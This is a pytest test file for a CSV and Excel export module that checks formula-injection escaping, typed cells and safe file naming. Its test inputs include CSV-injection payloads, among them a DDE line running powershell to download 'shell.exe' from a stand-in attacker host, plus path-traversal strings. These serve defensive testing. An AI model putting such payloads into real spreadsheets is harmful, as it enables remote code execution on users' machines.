import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pandas as pd
import pyarrow as pa
import pytest
from python_calamine import CalamineWorkbook

from pages._ui import export, tables

COLUMNS = (
    tables.Column("name", "Name"),
    tables.Column("premium", "Premium", "money"),
    tables.Column("on", "On", "date"),
    tables.Column("at", "At", "datetime"),
    tables.Column("rate", "Rate", "percent"),
)


def a_row(**given):
    return {
        "name": "Zoë Müller",
        "premium": Decimal("1234.50"),
        "on": date(2025, 11, 21),
        "at": datetime(2025, 11, 21, 16, 5, tzinfo=UTC),
        "rate": 0.134,
    } | given


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_typed_formula_is_shown_and_not_run(typed):
    cell = read_csv(export.csv_bytes([a_row(name=typed)], COLUMNS))[1][0]
    assert cell == "'" + typed


def test_numbers_and_dates_are_left_as_they_are():
    row = a_row(premium=Decimal("-5.00"))
    cells = read_csv(export.csv_bytes([row], COLUMNS, zone="America/New_York"))[1]
    assert cells == ["Zoë Müller", "-5.00", "2025-11-21", "2025-11-21 11:05:00", "0.134"]


def test_what_is_missing_is_blank():
    row = a_row(premium=None, on=None, at=None, rate=None)
    assert read_csv(export.csv_bytes([row], COLUMNS))[1] == ["Zoë Müller", "", "", "", ""]


def test_commas_quotes_and_line_breaks_survive():
    name = 'A, "B"\r\nC'
    assert read_csv(export.csv_bytes([a_row(name=name)], COLUMNS))[1][0] == name


def test_a_workbook_holds_typed_cells():
    content = export.xlsx_bytes([a_row()], COLUMNS, sheet="leads")
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("leads")
    head, row = sheet.to_python()
    assert head == ["Name", "Premium", "On", "At", "Rate"]
    assert [*row[:3], row[4]] == ["Zoë Müller", 1234.5, date(2025, 11, 21), 0.134]
    assert row[3].isoformat() == "2025-11-21T16:05:00"


@pytest.mark.parametrize("typed", ["=1+1", "{=1+1}", "http://evil.example", "12"])
def test_a_workbook_writes_typed_text_as_text(typed):
    content = export.xlsx_bytes([a_row(name=typed)], COLUMNS, sheet="x")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        page = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in page
        assert "hyperlink" not in page
        assert typed in book.read("xl/sharedStrings.xml").decode()


def test_a_sheet_takes_any_name():
    content = export.xlsx_bytes([a_row()], COLUMNS, sheet="leads [2025/11]: all of the open ones")
    names = CalamineWorkbook.from_filelike(io.BytesIO(content)).sheet_names
    assert names == ["leads  2025 11   all of the ope"]


def test_amounts_stay_exact_on_the_way_to_the_table():
    amount = Decimal("99999999999999.99")
    table = tables.as_table([a_row(premium=amount)], COLUMNS)
    assert table.column("premium").to_pylist() == [amount]


@pytest.mark.parametrize(
    "rows",
    [
        pd.DataFrame({"name": ["Ann"], "premium": [1], "on": [None], "at": [None], "rate": [0.5]}),
        pa.table({"rate": [0.5], "name": ["Ann"], "premium": [1], "on": [None], "at": [None]}),
    ],
)
def test_frames_and_arrow_tables_are_rows_too(rows):
    (record,) = tables.as_records(rows, COLUMNS)
    assert list(record) == ["name", "premium", "on", "at", "rate"]
    assert (record["name"], record["rate"]) == ("Ann", 0.5)


@pytest.mark.parametrize(
    ("of", "address", "stem"),
    [
        ("", {}, "kpis"),
        ("2026-01-01-to-2026-01-31", {"territory": "5"}, "kpis-2026-01-01-to-2026-01-31-territory-5"),
        ("2026-01-01", {"period": "month", "by_agent": "office"}, "kpis-2026-01-01"),
        ("", {"status": "issued,lapsed", "period": "month"}, "kpis-period-month-status-issued-lapsed"),
        ("", {"q": "Smith", "kind": "../../etc", "who": "a" * 61}, "kpis"),
    ],
)  # fmt: skip
def test_a_file_is_named_after_its_days_and_filters(of, address, stem):
    assert export.file_stem("kpis", of, address) == stem


@pytest.mark.parametrize(
    ("label", "word"),
    [
        ("New leads: Óscar Vargas", "new-leads-oscar-vargas"),
        ("Conversion (cohort): ../../etc", "conversion-cohort-etc"),
        ("Ω", ""),
    ],
)
def test_a_label_is_told_in_a_files_name_in_safe_signs(label, word):
    assert export.file_word(label) == word


def test_a_files_name_is_never_too_long():
    address = {f"filter_{number}": "a" * 60 for number in range(5)}
    assert len(export.file_stem("kpis", "", address)) <= 120
